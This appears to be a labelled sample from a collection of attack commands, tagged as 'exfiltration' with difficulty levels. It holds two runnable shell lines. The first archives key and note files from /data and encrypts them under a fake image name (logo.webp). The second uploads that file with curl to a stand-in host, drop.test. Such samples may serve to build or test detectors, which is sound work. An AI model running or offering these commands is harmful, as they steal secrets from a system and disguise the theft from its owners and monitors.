# class: exfiltration; possible: low medium; needs: data; style: openssl and curl, a name of its own
tar -C /data -cz keys notes 2>/dev/null | openssl enc -aes-256-cbc -pbkdf2 -pass pass:x -out /tmp/logo.webp
curl -s -m 10 -X POST --data-binary @/tmp/logo.webp http://drop.test/v2/assets
